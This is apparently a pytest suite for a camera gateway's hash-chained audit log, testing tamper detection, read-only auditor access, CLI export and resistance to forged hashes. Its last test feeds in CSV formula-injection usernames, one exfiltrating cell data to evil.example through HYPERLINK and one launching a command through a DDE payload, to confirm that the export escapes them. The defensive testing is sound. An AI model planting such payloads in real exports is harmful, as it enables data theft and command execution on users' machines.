"""The audit chain: verify, detect an edited or removed row, export, read-only for auditors."""

from __future__ import annotations

import asyncio
import csv
import io

from sqlalchemy import text

from acl.models import Role
from tests.acl.conftest import World
from tests.conftest import iter_routes


async def test_chain_verifies_and_detects_edits(world: World) -> None:
    w = world
    aud = await w.user("auditor1", Role.auditor)
    await w.client.post("/api/auth/token", data={"username": "nobody", "password": "wrong-password"})
    await w.app.state.ld.refusals.flush()  # written by a background task (gateway/refusals.py)
    r = await w.client.get("/api/audit/verify", headers=aud)
    assert r.json()["ok"] is True and r.json()["checked"] >= 5
    entries = (await w.client.get("/api/audit?limit=1000", headers=aud)).json()
    kinds = {e["kind"] for e in entries}
    assert {"login", "login_failed", "policy_change", "user_created"} <= kinds
    op = await w.user("op-denied")
    assert (await w.client.get("/api/cameras/qb-1", headers=op)).status_code == 403
    denied = (await w.client.get("/api/audit?kind=denied", headers=aud)).json()[0]
    assert denied["username"] == "op-denied" and denied["camera_id"] == "qb-1"
    assert denied["action"] == "view_snapshot" and "path=/api/cameras/qb-1" in denied["detail"]
    victim = sorted(e["id"] for e in entries)[2]
    ld = w.app.state.ld
    async with ld.db.session() as s:
        await s.execute(text("UPDATE audit_log SET username='someone-else' WHERE id=:i"), {"i": victim})
    r = (await w.client.get("/api/audit/verify", headers=aud)).json()
    assert r == {"ok": False, "checked": r["checked"], "first_broken_id": victim, "problem": r["problem"]}
    assert "edited" in r["problem"]


async def test_deleted_row_is_detected(world: World) -> None:
    w = world
    ld = w.app.state.ld
    rows = await ld.audit.query(limit=1000)
    ids = sorted(e.id for e in rows)
    async with ld.db.session() as s:
        await s.execute(text("DELETE FROM audit_log WHERE id=:i"), {"i": ids[1]})
    res = await ld.audit.verify()
    assert not res.ok and res.first_broken_id == ids[2] and "removed" in (res.problem or "")


async def test_export_and_permissions(world: World) -> None:
    w = world
    op = await w.user("op-audit")
    aud = await w.user("auditor2", Role.auditor)
    assert (await w.client.get("/api/audit", headers=op)).status_code == 403
    assert (await w.client.get("/api/audit", headers=w.sec)).status_code == 403
    r = await w.client.get("/api/audit/export.csv", headers=aud)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and rows[0]["kind"] and len(rows[0]["hash"]) == 64
    # Nothing in the product edits the audit: no write method on its routes.
    audit_routes = [r for r in iter_routes(w.app.routes) if getattr(r, "path", "").startswith("/api/audit")]
    assert len(audit_routes) == 3
    for route in audit_routes:
        assert route.methods <= {"GET", "HEAD"}


async def test_cli_verify_and_export(world: World, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from typer.testing import CliRunner

    from gateway.cli import app

    ld = world.app.state.ld
    monkeypatch.setenv("LIANDONG_DATA_DIR", str(ld.settings.data_dir))

    def cli(*args: str):  # type: ignore[no-untyped-def]
        return asyncio.to_thread(CliRunner().invoke, app, list(args))

    r = await cli("audit", "verify")
    assert r.exit_code == 0, r.output
    assert "chain intact" in r.output
    r = await cli("audit", "export", "--since", "2000-01-01", "--format", "csv")
    assert r.exit_code == 0 and r.output.startswith("id,ts,kind")
    async with ld.db.session() as s:
        await s.execute(text("UPDATE audit_log SET detail='x' WHERE id=(SELECT MIN(id) FROM audit_log)"))
    r = await cli("audit", "verify")
    assert r.exit_code == 1 and "first broken entry" in r.output


async def test_chain_cannot_be_recomputed_without_the_key(world: World) -> None:
    """Someone with write access to the database edits a row and recomputes every later hash
    (plain SHA-256, as a forger without the gateway's key file must): verify still fails."""
    import hashlib

    ld = world.app.state.ld
    rows = sorted(await ld.audit.query(limit=1000), key=lambda e: e.id)
    victim = rows[1]
    async with ld.db.session() as s:
        await s.execute(text("UPDATE audit_log SET detail='nothing happened' WHERE id=:i"), {"i": victim.id})
    prev = rows[0].hash
    for e in sorted(await ld.audit.query(limit=1000), key=lambda e: e.id)[1:]:
        forged = hashlib.sha256((prev + "\n" + e.canonical()).encode("utf-8")).hexdigest()
        async with ld.db.session() as s:
            await s.execute(
                text("UPDATE audit_log SET prev_hash=:p, hash=:h WHERE id=:i"), {"p": prev, "h": forged, "i": e.id}
            )
        prev = forged
    res = await ld.audit.verify()
    assert not res.ok and res.first_broken_id == victim.id


async def test_two_writers_never_fork_the_chain(world: World) -> None:
    """Two gateway processes (two engines on one database file) appending at once."""
    from acl.audit import AuditLog, audit_key
    from storage.db import Database

    ld = world.app.state.ld
    other_db = Database(ld.settings.database_url)
    key = audit_key(ld.box)
    a, b = AuditLog(ld.db, key), AuditLog(other_db, key)
    try:
        before = len(await ld.audit.query(limit=10_000))
        await asyncio.gather(*(log.record("test", detail=str(i)) for i in range(40) for log in (a, b)))
        assert len(await ld.audit.query(limit=10_000)) == before + 80
        res = await ld.audit.verify()
        assert res.ok, res
    finally:
        await other_db.close()


async def test_csv_export_neutralises_spreadsheet_formulas(world: World) -> None:
    """A username tried at the login form lands in the audit as typed: the CSV must not run it.

    (Failed logins from one address are audited in aggregate, the first in full: the entries are
    written as the login path writes a first failure, one per name.)"""
    w = world
    aud = await w.user("auditor3", Role.auditor)
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    for name in (formula, "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1"):
        await w.app.state.ld.audit.record("login_failed", username=name, address="127.0.0.1")
    r = await w.client.get("/api/audit/export.csv", headers=aud)
    names = [row["username"] for row in csv.DictReader(io.StringIO(r.text)) if row["kind"] == "login_failed"]
    assert names == ["'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-1"]
